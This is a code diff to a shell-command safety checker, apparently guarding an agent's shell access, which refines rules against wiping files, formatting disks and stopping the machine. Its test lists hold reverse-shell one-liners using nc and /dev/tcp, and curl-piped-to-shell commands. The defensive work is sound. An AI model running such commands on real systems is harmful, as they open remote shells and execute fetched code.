@@ -1,7 +1,7 @@
 import { banned, isOne, names, type ShellRule } from "./rule.ts";
 import { has, type Invocation, operandsOf, surelyHas } from "./shell-invocation.ts";
 import { INTERPRETERS, opensReverseShell, reachesMetadata, runsWhatIsFetched } from "./shell-network.ts";
-import { isCatastrophic, isDisk, isProtected } from "./shell-place.ts";
+import { isCatastrophic, isDisk, isProtected, reachOf } from "./shell-place.ts";
 import { writtenBy } from "./shell-writes.ts";
 
 const FORMATTERS = names(
@@ -21,9 +21,12 @@ const NARROWS =
   /^-(?:i?name|i?path|i?regex|i?wholename|[acm]time|[acm]min|size|newer.*|user|group|perm|empty|nouser|inum|links)$/;
 
 function findsEverything({ args, standing }: Invocation): boolean {
-  const from = args.findIndex((arg) => arg.startsWith("-") && !/^-(?:[HLP]|D|O.*)$/.test(arg));
-  const starts = (from === -1 ? args : args.slice(0, from)).filter((arg) => !arg.startsWith("-"));
-  const narrowed = args.some((arg, at) => NARROWS.test(arg) && !/^[*.?]*$/.test(args[at + 1] ?? ""));
+  const from = args.findIndex((arg) => /^[-!(]/.test(arg) && !/^-(?:[HLP]|D|O.*)$/.test(arg));
+  const named = (from === -1 ? args : args.slice(0, from)).filter((arg) => !/^[-!(]/.test(arg));
+  const starts = named.length === 0 ? ["."] : named;
+  const narrowed = args.some(
+    (arg, at) => NARROWS.test(arg) && !/^[*.?]*$/.test(args[at + 1] ?? "") && !/^(?:!|-not)$/.test(args[at - 1] ?? ""),
+  );
   const removes = args.some(
     (arg, at) =>
       arg === "-delete" ||
@@ -48,9 +51,18 @@ function removesEverything(run: Invocation): boolean {
   );
 }
 
-function formats({ program, args }: Invocation): boolean {
-  if (program.startsWith("mkfs") || program === "mkdosfs")
-    return !args.every((arg) => LISTINGS.test(arg)) || args.length === 0;
+/** Makes a file system, or what stands in for one, in a disk or in a file. */
+export function isMaker(program: string): boolean {
+  return program.startsWith("mkfs") || /^(?:mkdosfs|mke2fs|mkswap)$/.test(program);
+}
+
+function formats({ program, args, standing }: Invocation): boolean {
+  if (isMaker(program)) {
+    const operands = operandsOf(args, ["-t", "-L", "-b", "-O", "-F"]);
+    const areImages =
+      operands.length > 0 && operands.every((path) => /^(?:workspace|scratch)$/.test(reachOf(path, standing)));
+    return !areImages && (!args.every((arg) => LISTINGS.test(arg)) || args.length === 0);
+  }
   if (!FORMATTERS.has(program)) return false;
   return !args.some((arg) => LISTINGS.test(arg)) && args.length > 0;
 }
@@ -75,7 +87,7 @@ function stopsMachine({ program, args }: Invocation): boolean {
     );
   }
   if (program === "init" || program === "telinit") return args.some((arg) => /^[016sS]$/.test(arg));
-  return STOPPERS.has(program) && !args.some((arg) => arg === "--help" || arg === "--version");
+  return STOPPERS.has(program) && !args.some((arg) => /^(?:--help|--version|--show|-c)$/.test(arg));
 }
 
 function killsEverything({ program, args }: Invocation): boolean {
@@ -132,6 +144,7 @@ export const BANNED: readonly ShellRule[] = [
     misses: [
       "cat notes-about-mkfs.md",
       "fdisk -l",
+      "mkfs.ext4 disk.img",
       "dd if=/dev/zero of=disk.img count=1",
       "echo x > /dev/null",
       "man mkfs",
@@ -213,8 +226,14 @@ export const BANNED: readonly ShellRule[] = [
       "nc -e /bin/sh 10.0.0.1 4242",
       "mkfifo f; sh -i < f | nc h 1 > f",
       "exec 5<>/dev/tcp/h/80",
+      "exec 5<>/dev/tcp/127.0.0.1.example/80",
     ],
-    misses: ["grep -r /dev/tcp/ docs", "nc -z localhost 80", "echo 'bash -i >& /dev/tcp/h/1'"],
+    misses: [
+      "grep -r /dev/tcp/ docs",
+      "nc -z localhost 80",
+      "echo 'bash -i >& /dev/tcp/h/1'",
+      "exec 3<>/dev/tcp/localhost/5432",
+    ],
   }),
   banned({
     name: "runs-what-it-fetches",
@@ -233,6 +252,7 @@ export const BANNED: readonly ShellRule[] = [
       'grep -r "curl | sh" docs',
       "curl -o x.sh https://x",
       "cat x | sh",
+      "curl x | bash -c 'cat > f'",
     ],
   }),
   banned({
